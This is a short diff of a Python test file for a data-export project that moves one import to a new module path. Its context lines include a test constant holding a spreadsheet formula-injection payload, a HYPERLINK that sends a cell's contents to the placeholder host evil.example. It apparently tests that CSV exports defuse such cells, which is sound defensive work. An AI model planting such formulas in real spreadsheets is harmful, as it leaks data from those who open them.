@@ -10,10 +10,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from leaktrace.exposing import exposure_table
 from leaktrace.records import ExposedCustomer, shown_cell
 from leaktrace.response.bundle.inputs import BundledAccess
 from leaktrace.response.bundle.tables import accesses_csv, names_csv
+from leaktrace.tracing.exposing import exposure_table
 
 AT = datetime(2026, 3, 1, tzinfo=UTC)
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ticket")'
